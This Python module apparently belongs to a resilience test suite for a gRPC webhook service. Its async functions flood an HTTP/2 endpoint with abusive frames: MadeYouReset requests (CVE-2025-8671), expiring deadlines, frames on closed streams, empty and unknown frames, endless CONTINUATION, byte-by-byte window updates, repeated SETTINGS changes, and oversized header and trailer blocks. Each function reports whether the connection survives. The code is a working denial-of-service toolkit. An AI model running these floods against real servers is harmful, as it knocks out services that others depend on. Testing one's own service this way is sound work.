"""HTTP/2: frames that cost the service work and bring nothing, each kind on a connection of its own, without end.

By whoever reaches the port, without a token unless it says so. Each function attacks once and says in some words what
came of it.
"""

from __future__ import annotations

import struct
import time
from collections.abc import Awaitable, Callable, Iterator
from itertools import count, islice
from typing import Final

from webhook.v1 import service_pb2

from .target import (
    CONTINUATION,
    DATA,
    HEADERS,
    HOSTILE,
    METHOD,
    PRIORITY,
    RESET,
    SETTINGS,
    WINDOW_UPDATE,
    Http2,
    Target,
    frame,
    head,
    message,
)

SECONDS_MAX: Final = 10.0
END_STREAM, END_HEADERS, PADDED = 1, 4, 8
UNKNOWN: Final = 99
KNOWN: Final = ("authorization", f"Bearer {HOSTILE}")
AT_ONCE: Final = 200  # frames, or groups of them, that are sent together

Attack = Callable[[Target, float], Awaitable[str]]


async def made_you_reset(target: Target, scale: float) -> str:
    """Requests that are whole, and then go on: the service resets the streams, not the client (CVE-2025-8671)."""
    block = head(METHOD + "GetWebhook", KNOWN)
    groups = (frame(HEADERS, END_HEADERS | END_STREAM, n, block) + frame(DATA, 0, n, bytes(100)) for n in count(1, 2))
    return await _pour(target, groups, round(50_000 * scale))


async def short_deadlines(target: Target, scale: float) -> str:
    """Calls, with a token, whose deadlines are over before they have an answer."""
    request = message(service_pb2.ListDeliveriesRequest(page_size=1000).SerializeToString())
    block = head(METHOD + "ListDeliveries", KNOWN, ("grpc-timeout", "3m"))
    groups = (frame(HEADERS, END_HEADERS, n, block) + frame(DATA, END_STREAM, n, request) for n in count(1, 2))
    return await _pour(target, groups, round(20_000 * scale))


async def late_frames(target: Target, scale: float) -> str:
    """Windows, data and resets of streams that have ended."""
    first = frame(HEADERS, END_HEADERS, 1, head(METHOD + "GetWebhook")) + frame(RESET, 0, 1, bytes(4))
    late = (
        frame(WINDOW_UPDATE, 0, 1, struct.pack(">I", 100_000)),
        frame(DATA, 0, 1, bytes(100)),
        frame(RESET, 0, 1, bytes(4)),
    )
    return await _pour_each(target, first, late, round(100_000 * scale))


async def empty_frames(target: Target, scale: float) -> str:
    """Data that is empty or only padding, priorities, unknown kinds, header blocks that go on with nothing."""
    first = frame(HEADERS, END_HEADERS, 1, head(METHOD + "BatchPublishEvents", KNOWN))
    empty = (
        frame(DATA, 0, 1),
        frame(DATA, PADDED, 1, b"\xff" + bytes(255)),
        frame(PRIORITY, 0, 3, bytes(5)),
        frame(UNKNOWN, 0, 0, bytes(100)),
    )
    said = await _pour_each(target, first, empty, round(100_000 * scale))
    opened = frame(HEADERS, 0, 1, head(METHOD + "GetWebhook"))
    return f"{said}, {await _pour_each(target, opened, (frame(CONTINUATION, 0, 1),), round(100_000 * scale))}"


async def window_crumbs(target: Target, scale: float) -> str:
    """Answers that are taken byte by byte, with a token."""
    request = message(service_pb2.ListEventTypesRequest().SerializeToString())
    first = frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 0))
    for n in range(1, 201, 2):
        first += frame(HEADERS, END_HEADERS, n, head(METHOD + "ListEventTypes", KNOWN)) + frame(
            DATA, END_STREAM, n, request
        )
    updates = (frame(WINDOW_UPDATE, 0, n, b"\0\0\0\1") for _ in count() for n in range(1, 201, 2))
    return await _pour(target, updates, round(50_000 * scale), first)


async def window_changes(target: Target, scale: float) -> str:
    """Settings that change the windows of a thousand streams, again and again."""
    block, opened = head(METHOD + "BatchPublishEvents", KNOWN), b""
    for n in range(1, 2 * round(1000 * min(1.0, 4 * scale)), 2):
        opened += frame(HEADERS, END_HEADERS, n, block)
    changes = (frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 1000 + n % 2)) for n in count())
    return await _pour(target, changes, round(50_000 * scale), opened)


async def large_heads(target: Target, scale: float) -> str:
    """Header blocks that take long to read: two thousand fields, texts that are packed as tightly as they can be."""
    many = head(METHOD + "GetWebhook") + b"\x00\x01a\x00" * 1800
    packed = head(METHOD + "GetWebhook") + b"\x00\x01a\xff\x81\x76" + b"\x1f" * 15_221
    groups = (frame(HEADERS, END_HEADERS | END_STREAM, n, many if n % 4 == 1 else packed) for n in count(1, 2))
    return await _pour(target, groups, round(2000 * scale))


async def endless_trailers(target: Target, scale: float) -> str:
    """Trailers of a thousand fields behind each request, and trailers that end nothing."""
    block = head(METHOD + "GetWebhook", KNOWN)
    fields = b"\x00\x01a\x00" * 1000
    groups = (
        frame(HEADERS, END_HEADERS, n, block) + frame(HEADERS, END_HEADERS | n // 2 % 2, n, fields) for n in count(1, 2)
    )
    return await _pour(target, groups, round(2000 * scale))


async def _pour_each(target: Target, first: bytes, frames: tuple[bytes, ...], times: int) -> str:
    """Sends each of the frames so often, on a connection of its own, which begins with `first`."""
    said = [await _pour(target, (one for _ in count()), times, first) for one in frames]
    return ", ".join(said)


async def _pour(target: Target, groups: Iterator[bytes], times: int, first: bytes = b"") -> str:
    """Sends so many groups of frames, as long as the service takes them; returns how many it took."""
    connection, sent, until = await Http2.open(target), 0, time.monotonic() + SECONDS_MAX
    await connection.send(first)
    while sent < times and time.monotonic() < until:
        if not await connection.send(*islice(groups, min(AT_ONCE, times - sent))):
            break
        sent += min(AT_ONCE, times - sent)
    await connection.answered()
    return f"{sent} {'kept' if connection.is_open else 'closed'}"


FRAMES: Final[tuple[Attack, ...]] = (
    made_you_reset,
    short_deadlines,
    late_frames,
    empty_frames,
    window_crumbs,
    window_changes,
    large_heads,
    endless_trailers,
)
